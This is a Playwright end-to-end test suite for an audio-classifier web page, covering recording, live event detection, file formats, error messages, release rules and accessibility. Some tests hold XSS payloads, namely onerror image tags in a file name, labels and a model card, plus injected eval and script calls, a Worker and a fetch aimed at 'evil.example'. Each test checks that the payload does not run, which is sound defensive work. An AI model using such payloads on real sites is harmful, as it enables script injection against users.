"""The page as a visitor has it: Chromium with a fake microphone fed from a file, driven by Playwright."""

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile

from stages.core.project import files
from stages.core.project.provenance import ROOT
from stages.runtime import frontend_distance
from stages.runtime.audio import read_wav
from stages.runtime.classify import Classifier
from stages.runtime.frontend_distance import summaries

sys.path.insert(0, str(Path(__file__).parent))
from visits import LOUD, READY, Published, Visit, visit  # type: ignore[import-not-found]

from tests.messages import line_with

pytestmark = pytest.mark.thorough

AXE = ROOT / "stages/push/web/node_modules/axe-core/axe.min.js"
PHONE = {"viewport": {"width": 390, "height": 844}, "color_scheme": "dark"}


def test_a_recording_is_decided_played_and_explained(visitor: Visit, served: str) -> None:
    visitor.open(served)
    visitor.tab.click("#record")
    visitor.tab.wait_for_selector("#record-text:text-matches('Stop .[3-9] s')", timeout=20_000)
    visitor.tab.click("#record")
    visitor.tab.wait_for_selector("#found li", timeout=20_000)
    assert visitor.text("#found").startswith("positive")
    duration = """new Promise((resolve) => {
        const player = document.querySelector('#player');
        if (player.readyState) resolve(player.duration);
        else player.addEventListener('loadedmetadata', () => resolve(player.duration));
    })"""
    assert visitor.tab.evaluate(duration) > 2.5
    assert visitor.text("#message") == ""
    assert visitor.text("#record-text") == "Record"


def test_the_part_that_the_decision_hangs_on_is_named(visitor: Visit, served: str, sounds: Path) -> None:
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == "positive"
    visitor.tab.click("#explain")
    visitor.tab.wait_for_selector("#explanation li", timeout=60_000)
    explained = visitor.text("#explanation")
    assert "the score of positive" in explained


def test_live_listening_tells_the_event_within_a_hop(visitor: Visit, served: str) -> None:
    visitor.open(served)
    visitor.tab.click("#live")
    visitor.tab.wait_for_selector("#events li", timeout=30_000)
    label, _, times = visitor.text("#events li").partition(": ")
    onset, offset = (float(each.removesuffix(" s")) for each in times.split(", ")[0].split(" to "))
    visitor.tab.click("#live")
    hop = 0.5
    assert label == "positive"
    assert abs((offset - onset) - (LOUD[1] - LOUD[0])) <= hop
    assert abs(onset - LOUD[0]) <= hop + 0.2  # the microphone starts a moment before the page hears it


@pytest.mark.parametrize("name", ["a.wav", "b.flac", "c.ogg", "d.mp3", "e.opus", "f.wav"])
def test_a_file_of_six_formats(visitor: Visit, served: str, sounds: Path, name: str) -> None:
    visitor.open(served)
    assert visitor.decide(sounds / name) == "positive"


def test_what_is_no_sound_is_one_sentence(visitor: Visit, served: str, tmp_path: Path) -> None:
    visitor.open(served)
    evil = tmp_path / "<img src=x onerror=alert(1)>.wav"
    evil.write_bytes(b"RIFF\xff\xff\xff\xffWAVEfmt \x10\x00\x00\x00" + b"\xff" * 64)
    visitor.decide(evil)
    assert "cannot decode" in visitor.text("#message")
    assert visitor.tab.query_selector("img") is None


def test_labels_and_cards_never_become_html(visitor: Visit, served: str, published: Published, sounds: Path) -> None:
    evil = "<img src=x onerror=document.title='evil'>"
    path = published.folder / "current/manifest.json"
    content = json.loads(path.read_text()) | {"labels": ["quiet", evil], "registered_name": f"{evil}<script>"}
    (published.folder / "current/MODEL_CARD.md").write_text(f"## Intended use\n\n{evil}. More.\n")
    content["files"]["MODEL_CARD.md"] = files.sha256(published.folder / "current/MODEL_CARD.md")
    files.write_json(path, content)
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == evil
    assert visitor.tab.query_selector("img") is None
    assert visitor.text("#title").startswith(evil)
    assert visitor.tab.title().startswith("<img")


def test_what_the_release_calls_unknown_is_unknown(
    visitor: Visit, served: str, published: Published, sounds: Path
) -> None:
    path = published.folder / "current/manifest.json"
    content = json.loads(path.read_text())
    files.write_json(path, content | {"reject": {"measure": "distance", "limit": 100.0, "kept": 0.95}})
    visitor.open(served)
    assert visitor.decide(sounds / "a.wav") == "Unknown"
    assert "nearest is positive" in visitor.text("#details")


def test_what_sounds_unlike_the_training_clips_is_unknown(
    visitor: Visit, served: str, published: Published, sounds: Path
) -> None:
    """The front end of the release gives what Python's gives, so that a limit on either side of it decides."""
    path = published.folder / "current/manifest.json"
    content = json.loads(path.read_text())
    classifier = Classifier(published.folder / "current")
    samples, rate = read_wav(sounds / "a.wav")
    features = classifier.frontend.run(classifier.clip(samples, rate)[np.newaxis])
    values = summaries(features)
    plain = {"means": [0.0] * values.shape[1], "scales": [1.0] * values.shape[1]}
    sure = float(frontend_distance.parse(plain).confidence(features)[0])
    for above, decision in ((-1e-4, "positive"), (1e-4, "Unknown")):
        rule = {"measure": "frontend_distance", "limit": sure + above * abs(sure), "kept": 0.95, "frontend": plain}
        files.write_json(path, content | {"reject": rule})
        visitor.open(served)
        assert visitor.decide(sounds / "a.wav") == decision


def test_odd_files_are_one_sentence_each_and_the_page_goes_on(
    visitor: Visit, served: str, sounds: Path, tmp_path: Path
) -> None:
    visitor.open(served)
    (tmp_path / "empty.wav").touch()
    (tmp_path / "text.wav").write_text("Dear reader, this is no sound.\n" * 40)
    soundfile.write(tmp_path / "none.wav", np.zeros(0, np.float32), 8000)
    soundfile.write(tmp_path / "long.wav", np.zeros(2 * 3600 * 100, np.int16), 100)
    soundfile.write(tmp_path / "long.flac", np.zeros(61 * 60 * 8000, np.int16), 8000)
    for name, sentence in {
        "empty.wav": "This file is empty.",
        "text.wav": "cannot decode this file",
        "none.wav": "cannot decode this file",
        "long.wav": "lasts 120 minutes; this page takes at most 60",
        "long.flac": "lasts 61 minutes; this page takes at most 60",
    }.items():
        visitor.decide(tmp_path / name)
        assert sentence in visitor.text("#message"), name
        assert visitor.tab.is_hidden("#result"), name
    assert visitor.decide(sounds / "a.wav") == "positive"
    assert visitor.text("#message") == ""


def test_a_release_without_golden_recordings_is_refused_with_the_rule(
    visitor: Visit, served: str, published: Published
) -> None:
    path = published.folder / "current/manifest.json"
    files.write_json(path, json.loads(path.read_text()) | {"golden": []})
    visitor.tab.goto(served)
    visitor.tab.wait_for_selector("#message:not(:empty)")
    assert "There is no classifier to run" in visitor.text("#about")
    assert line_with(visitor.text("#message"), "golden", "at least one recording")


def test_injected_scripts_do_not_run(chromium: Any, served: str) -> None:
    context = chromium.new_context()
    tab = context.new_page()
    tab.goto(served)
    tab.wait_for_selector(READY, timeout=30_000)
    for attack in (
        "document.body.innerHTML = '<img src=x onerror=window.evil=1>'",
        "eval('window.evil = 1')",
        "new Function('window.evil = 1')()",
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.evil = 1'}))",
        "new Worker('https://evil.example/worker.js')",
    ):
        # Later, since what the debugger evaluates may evaluate itself.
        script = f"""async () => {{
            await new Promise((resolve) => setTimeout(resolve, 100));
            try {{ {attack}; return '' }} catch (error) {{ return String(error) }}
        }}"""
        refused = tab.evaluate(script)
        assert refused, attack
    fetched = tab.evaluate("fetch('https://evil.example/').then(() => 'sent', String)")
    assert fetched != "sent"
    assert tab.evaluate("window.evil") is None
    context.close()


@pytest.mark.parametrize("options", [{}, {"color_scheme": "dark"}, PHONE], ids=["light", "dark", "phone"])
def test_accessibility_has_no_violation(chromium: Any, served: str, sounds: Path, options: dict[str, Any]) -> None:
    if not AXE.is_file():
        pytest.skip("no axe-core here; run `npm ci` in stages/push/web")
    context = chromium.new_context(bypass_csp=True, permissions=["microphone"], **options)
    tab = visit(context)
    tab.open(served)
    tab.decide(sounds / "a.wav")
    tab.tab.click("#live")
    tab.tab.wait_for_selector("#events li", timeout=30_000)
    tab.tab.click("#live")
    tab.tab.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    tab.tab.evaluate(AXE.read_text())
    found = tab.tab.evaluate("axe.run().then((all) => all.violations.map((each) => each.id + ': ' + each.help))")
    assert found == []
    width = tab.tab.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert width[0] <= width[1]
    context.close()


def test_everything_can_be_reached_and_used_by_keyboard(visitor: Visit, served: str) -> None:
    visitor.open(served)
    reached = []
    for _ in range(8):
        visitor.tab.keyboard.press("Tab")
        reached.append(visitor.tab.evaluate("document.activeElement.id || document.activeElement.textContent"))
    assert {"record", "live", "pick"} <= set(reached)
    visitor.tab.focus("#examples summary")
    visitor.tab.keyboard.press("Enter")
    visitor.tab.keyboard.press("Tab")
    visitor.tab.keyboard.press("Enter")
    visitor.tab.wait_for_selector("#scores li", timeout=30_000)


def test_the_types_the_rules_and_the_units_hold() -> None:
    npx = shutil.which("npx")
    if npx is None or not AXE.is_file():
        pytest.skip("no npm here; install Node.js and run `npm ci` in stages/push/web")
    done = subprocess.run(
        ["npm", "run", "check"], cwd=ROOT / "stages/push/web", capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
